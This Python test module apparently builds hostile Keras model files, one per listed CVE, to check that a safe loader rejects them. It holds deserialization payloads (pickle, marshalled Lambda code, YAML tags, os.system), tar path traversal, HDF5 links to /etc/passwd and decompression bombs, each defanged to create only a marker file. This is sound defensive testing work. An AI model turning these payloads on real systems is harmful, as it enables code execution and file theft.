"""One hostile file for each weakness that was found in Keras: name -> (suffix, bytes).

The names begin with the number under which the weakness is known. `marker` is a path
that any of them would create if something in it was run.
"""

import base64
import io
import json
import marshal
import pickle
import tarfile
import zipfile

import h5py
import numpy as np

from minikeras.saving.archive_writer import ArchiveWriter
from minikeras.saving.npy import header


class Runs:
    """Unpickling this makes the marker file."""

    def __init__(self, marker):
        self.marker = marker

    def __reduce__(self):
        return open, (self.marker, "w")


def dense(**config):
    return {"class_name": "Dense", "config": {"name": "d", "units": 2, **config}}


def placeholder(shape=(None, 3)):
    config = {"name": "i", "batch_input_shape": list(shape), "dtype": "float32"}
    return {"class_name": "InputLayer", "config": config}


def sequential(*layers):
    config = {"name": "s", "layers": [placeholder(), *layers]}
    return {"class_name": "Sequential", "config": config}


def wrapped(module, name, config):
    return {"module": module, "class_name": name, "config": config}


def h5(model, fill=None):
    """A Keras 2 file with this configuration; `fill` may write more into it."""
    buffer = io.BytesIO()
    with h5py.File(buffer, "w") as file:
        file.attrs["keras_version"], file.attrs["backend"] = b"2.3.1", b"tensorflow"
        file.attrs["model_config"] = np.bytes_(json.dumps(model).encode())
        group = file.create_group("model_weights")
        group.attrs["layer_names"] = [b"d"]
        layer = group.create_group("d")
        layer.attrs["weight_names"] = [b"kernel:0", b"bias:0"]
        if fill is None:
            layer["kernel:0"], layer["bias:0"] = np.ones((3, 2), "f4"), np.ones(2, "f4")
        else:
            fill(layer)
    return buffer.getvalue()


def keras(config, weights=b"", version="3.8.0", **members):
    """A Keras 3 file with this configuration."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as file:
        file.writestr("metadata.json", json.dumps({"keras_version": version}))
        file.writestr("config.json", json.dumps(config))
        file.writestr("model.weights.h5", weights or h5(sequential(dense())))
        for name, data in members.items():
            file.writestr(name, data)
    return buffer.getvalue()


def mk(model, table=(), **members):
    """One of our own files with this configuration and these members."""
    buffer = io.BytesIO()
    writer = ArchiveWriter(buffer)
    defaults = {
        "config.json": json.dumps({"model": model, "training": None}),
        "layers.json": json.dumps([["d", len(table)]]),
        "weights.json": json.dumps(table),
    }
    for name, data in {**defaults, **members}.items():
        writer.add(name, data.encode() if isinstance(data, str) else data)
    meta = {"format": "minikeras", "version": 1, "sha256": writer.sha256()}
    writer.add("meta.json", json.dumps(meta).encode())
    writer.close()
    return buffer.getvalue()


def code_of(marker):
    code = compile(f"open({marker!r}, 'w')", "x", "exec")
    return base64.b64encode(marshal.dumps(code)).decode()


def old_lambda(marker):
    config = {"name": "l", "function": [code_of(marker), None, None]}
    config["function_type"] = "lambda"
    return {"class_name": "Lambda", "config": config}


def new_lambda(marker):
    value = {"class_name": "__lambda__", "config": {"value": code_of(marker)}}
    return wrapped("keras.layers", "Lambda", {"name": "l", "function": value})


def array(name, shape, member="weights/000", start=0):
    return [[name, "<f4", shape, member, start]]


def calls(module, name, config):
    """A layer's place taken by something else that could be called."""
    return sequential(dense(), wrapped(module, name, config))


def huge_h5(layer):
    layer.create_dataset("kernel:0", (10**9, 10**6), "f4")
    layer["bias:0"] = np.ones(2, "f4")


def gzip_bomb(layer):
    layer.create_dataset("kernel:0", (2**15, 2**14), "f4", compression="gzip")
    layer["bias:0"] = np.ones(2, "f4")


def external_storage(layer):
    layer.create_dataset("kernel:0", (3, 2), "f4", external=[("/etc/passwd", 0, 24)])
    layer["bias:0"] = np.ones(2, "f4")


def link(kind):
    def fill(layer):
        layer["bias:0"] = np.ones(2, "f4")
        if kind == "external":
            layer["kernel:0"] = h5py.ExternalLink("/etc/passwd", "/x")
        elif kind == "soft":
            layer["kernel:0"] = h5py.SoftLink("/model_weights/d/bias:0")
        else:
            layout = h5py.VirtualLayout((3, 2), "f4")
            layout[:] = h5py.VirtualSource("/tmp/other.h5", "x", (3, 2))
            layer.create_virtual_dataset("kernel:0", layout)

    return fill


def other_filter(layer):
    layer.create_dataset("kernel:0", data=np.ones((3, 2), "f4"), compression="lzf")
    layer["bias:0"] = np.ones(2, "f4")


def objects(marker):
    buffer = io.BytesIO()
    np.savez(buffer, a=np.array([Runs(marker)], object))
    return buffer.getvalue()


def tar(name, kind=tarfile.REGTYPE, target=""):
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        info = tarfile.TarInfo(name)
        info.type, info.linkname = kind, target
        archive.addfile(info)
    return buffer.getvalue()


def config_bomb():
    """11 KB that describe models inside models, each with large layers."""
    inner = sequential(dense(units=10**6))
    for i in range(60):
        inner = sequential(dense(units=10**5, name=f"d{i}"), inner)
    return inner


def deflated():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr("meta.json", b" " * 2**28)
    return buffer.getvalue()


def make(marker):
    """The corpus: name -> (suffix, bytes)."""
    plain = sequential(dense())
    path = {"vocabulary": "/etc/passwd", "name": "v"}
    torch = {"module": base64.b64encode(pickle.dumps(Runs(marker))).decode()}
    flat = header("f4", (6,)) + np.ones(6, "f4").tobytes()
    yaml = f"!!python/object/apply:builtins.open ['{marker}', 'w']\n"
    files = {
        "CVE-2021-37678 yaml": ("mk", yaml.encode()),
        "CVE-2024-3660 lambda h5": ("h5", h5(sequential(dense(), old_lambda(marker)))),
        "CVE-2024-3660 lambda mk": ("mk", mk(sequential(dense(), old_lambda(marker)))),
        "CVE-2025-1550 module": (
            "keras",
            keras(calls("builtins", "open", {"file": marker, "mode": "w"})),
        ),
        "CVE-2025-1550 function": (
            "keras",
            keras(sequential(dense(activation=wrapped("os", "function", "system")))),
        ),
        "CVE-2025-8747 get_file": (
            "keras",
            keras(calls("keras.utils", "get_file", {"origin": "https://x"})),
        ),
        "CVE-2025-9906 unsafe": (
            "keras",
            keras(calls("keras.config", "enable_unsafe_deserialization", {})),
        ),
        "CVE-2025-9905 lambda h5": ("h5", h5(calls("keras.layers", "Lambda", {
            "name": "l", "function": [code_of(marker), None, None],
        }))),
        "CVE-2025-9905 lambda keras": ("keras", keras(sequential(new_lambda(marker)))),
        "CVE-2025-49655 torch": (
            "keras",
            keras(calls("keras.layers", "TorchModuleWrapper", torch)),
        ),
        "CVE-2025-12058 vocabulary": (
            "keras",
            keras(calls("keras.layers", "StringLookup", path)),
        ),
        "CVE-2025-12060 tar": ("mk", tar("../../escaped")),
        "CVE-2025-12638 tar link": ("mk", tar("l", tarfile.SYMTYPE, "/etc")),
        "2026 hard link": ("mk", tar("l", tarfile.LNKTYPE, "/etc/passwd")),
        "CVE-2026-0897 h5 shape": ("h5", h5(plain, huge_h5)),
        "CVE-2026-0897 h5 gzip": ("h5", h5(plain, gzip_bomb)),
        "CVE-2026-0897 npy shape": ("mk", mk(
            plain, array("k", [10**6, 10**6]), **{"weights/000.npy": flat}
        )),
        "CVE-2026-0897 npy header": ("mk", mk(plain, array("k", [3, 2]), **{
            "weights/000.npy": flat.replace(b"(6,)", b"(99999999999,)"),
        })),
        "CVE-2026-0897 zip": ("mk", deflated()),
        "CVE-2026-1669 external storage": ("h5", h5(plain, external_storage)),
        "CVE-2026-1669 external link": ("h5", h5(plain, link("external"))),
        "CVE-2026-1669 soft link": ("h5", h5(plain, link("soft"))),
        "CVE-2026-1669 virtual": ("h5", h5(plain, link("virtual"))),
        "CVE-2026-1669 filter": ("h5", h5(plain, other_filter)),
        "CVE-2026-1669 in keras": ("keras", keras(plain, h5(plain, link("external")))),
        "CVE-2026-1462 TFSMLayer": (
            "keras",
            keras(calls("keras.layers", "TFSMLayer", {"filepath": "/tmp/x"})),
        ),
        "CVE-2026-12479 name": ("mk", mk(sequential(dense(name="../../x")))),
        "CVE-2026-12479 name keras": ("keras", keras(sequential(dense(name="a/../b")))),
        "3.15 objects": ("mk", objects(marker)),
        "config bomb": ("mk", mk(config_bomb())),
        "config bomb h5": ("h5", h5(config_bomb())),
        "config bomb keras": ("keras", keras(config_bomb())),
        "deep json": ("mk", mk(plain, **{"config.json": "[" * 10**6})),
        "wide sample": ("mk", mk(sequential(
            placeholder((None, 10**6, 10**6)),
            {"class_name": "Activation", "config": {"name": "a", "activation": "relu"}},
        ))),
        "many repeats": ("mk", mk(sequential(
            {"class_name": "RepeatVector", "config": {"name": "r", "n": 2**31}},
            {"class_name": "UpSampling1D", "config": {"name": "u", "size": 2**31}},
        ))),
        "empty version": ("keras", keras(sequential(dense()), version="")),
        "pickle": ("mk", pickle.dumps(Runs(marker))),
    }  # fmt: skip
    return files
